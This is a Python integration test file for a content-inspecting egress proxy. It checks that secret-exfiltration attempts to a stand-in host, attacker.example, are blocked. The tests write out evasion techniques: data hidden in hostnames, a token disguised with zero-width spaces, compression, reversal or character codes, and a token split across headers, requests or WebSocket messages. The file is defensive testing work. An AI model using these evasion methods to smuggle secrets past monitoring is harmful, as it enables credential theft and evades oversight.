"""Leaks caught without knowing the value, through the real proxy in blocklist mode.

Every domain is reachable here, so only content inspection stands between the
agent and the upstream: data in a host name (refused before the name is even
looked up), a key under a Unicode disguise, in a headerless archive, reversed,
cut over headers, over requests (the audit names the flows of the pieces) and
over WebSocket messages. Each block is checked on both sides: the agent got 403
(or close 1008) and the upstream received nothing of it.
"""

from __future__ import annotations

import base64
import bz2
import json
import random
import string
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest
from wsproto.events import CloseConnection, TextMessage

from tests.integration.proxy.conftest import fresh_client, serving, start_proxy
from tests.support.fake_dns import FakeDns
from tests.support.proxy import ProxyProcess
from tests.support.rawws import RawClient
from tests.support.upstream import Upstream

pytestmark = pytest.mark.integration
_RNG = random.Random(15)
GITHUB = "gh" + "p_" + "".join(_RNG.choice(string.ascii_letters + string.digits) for _ in range(36))


@pytest.fixture(scope="module")
def proxy(
    tmp_path_factory: pytest.TempPathFactory, fake_dns: FakeDns, upstream: Upstream
) -> Iterator[ProxyProcess]:
    tmp = tmp_path_factory.mktemp("content")
    everything = "{mode: blocklist, list: []}"
    yield from serving(
        start_proxy(tmp, fake_dns, upstream, "rate_limit: false", domains=everything)
    )


@pytest.fixture
def client(proxy: ProxyProcess, upstream: Upstream) -> Iterator[httpx.Client]:
    yield from fresh_client(proxy, upstream)


def _post(client: httpx.Client, upstream: Upstream, body: bytes, path: str = "/c") -> int:
    url = f"http://attacker.example:{upstream.plain_port}{path}"
    return client.post(url, content=body).status_code


def test_hex_text_in_a_host_name_is_refused_before_it_is_looked_up(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess, fake_dns: FakeDns
) -> None:
    host = b"postgres://user:pass@db".hex() + ".x.attacker.example"
    response = client.get(f"http://{host}:{upstream.plain_port}/leak")
    assert response.status_code == 403
    assert upstream.received == []
    assert not fake_dns.saw(host)
    line = proxy.wait_for_audit(lambda r: r["host"] == host and r["verdict"] == "block")
    assert line["inspector"] == "url-data"
    assert line["rules"] == ["host-data"]


@pytest.mark.parametrize(
    "body",
    [
        json.dumps({"v": "\u200b".join(GITHUB)}, ensure_ascii=False).encode(),  # zero-width
        bz2.compress(json.dumps({"env": GITHUB}).encode()),  # no Content-Encoding
        json.dumps({"v": GITHUB[::-1]}).encode(),
        json.dumps({"v": [ord(c) for c in GITHUB]}).encode(),  # character codes
    ],
    ids=["zero-width-spaces", "headerless-bzip2", "reversed", "char-codes"],
)
def test_a_disguised_key_in_a_body_is_blocked(
    client: httpx.Client, upstream: Upstream, body: bytes
) -> None:
    assert _post(client, upstream, body) == 403
    assert upstream.received == []


def test_a_key_over_several_headers_is_assembled(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    pieces = [GITHUB[i : i + 10] for i in range(0, len(GITHUB), 10)]
    headers = {f"x-trace-{n}": piece for n, piece in enumerate(pieces)}
    response = client.get(f"http://attacker.example:{upstream.plain_port}/h", headers=headers)
    assert response.status_code == 403
    assert upstream.received == []
    line = proxy.wait_for_audit(lambda r: r["path"] == "/h" and r["verdict"] == "block")
    assert line["rules"] == ["github_token", "assembled"]


def _send_pieces(
    client: httpx.Client, upstream: Upstream, path: str, text: str, size: int
) -> list[int]:
    """GET `path?i=N&d=PIECE` for each piece of `text` until one is refused."""
    statuses = []
    for n, at in enumerate(range(0, len(text), size)):
        piece = quote(text[at : at + size], safe="")
        url = f"http://attacker.example:{upstream.plain_port}{path}?i={n}&d={piece}"
        statuses.append(client.get(url).status_code)
        if statuses[-1] == 403:
            break
    return statuses


def test_a_key_over_several_requests_blocks_the_completing_one_and_names_the_pieces(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    pieces = [GITHUB[i : i + 5] for i in range(0, len(GITHUB), 5)]
    statuses = _send_pieces(client, upstream, "/q", GITHUB, 5)
    # Blocked once the pieces make a token (`ghp_` and 30 characters), before the end.
    assert statuses == [200] * 6 + [403]
    assert len(upstream.received) == 6  # the completing piece never left
    first = proxy.wait_for_audit(lambda r: r["path"] == f"/q?i=0&d={pieces[0]}")
    last = proxy.wait_for_audit(lambda r: r["path"].startswith("/q?i=6&"))
    assert last["verdict"] == "block" and "assembled" in last["rules"]
    assert first["flow_id"] in last["reason"] and last["flow_id"] in last["reason"]


def test_a_key_base64_encoded_then_cut_over_requests_is_assembled(
    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
) -> None:
    encoded = base64.b64encode(GITHUB.encode()).decode()
    statuses = _send_pieces(client, upstream, "/b", encoded, 12)
    # `ghp_` and 30 characters are 46 base64 characters: the fourth piece completes them.
    assert statuses == [200] * 3 + [403]
    assert len(upstream.received) == 3
    last = proxy.wait_for_audit(lambda r: r["path"].startswith("/b?i=3&"))
    assert last["rules"] == ["github_token", "assembled"]


def test_a_key_over_websocket_messages_closes_the_socket(
    proxy: ProxyProcess, upstream: Upstream
) -> None:
    upstream.clear()
    with RawClient(proxy.port, "attacker.example", upstream.plain_port, "/ws") as ws:
        ws.send(TextMessage(f"part1: {GITHUB[:18]}"))
        assert isinstance(ws.receive(), TextMessage)  # echoed: the first piece went
        ws.send(TextMessage(f"part2: {GITHUB[18:]}"))
        closed = ws.until_closed()
    assert isinstance(closed, CloseConnection) and closed.code == 1008
    messages = [m for item in upstream.received for m in item.ws_messages]
    assert messages == [f"part1: {GITHUB[:18]}"]
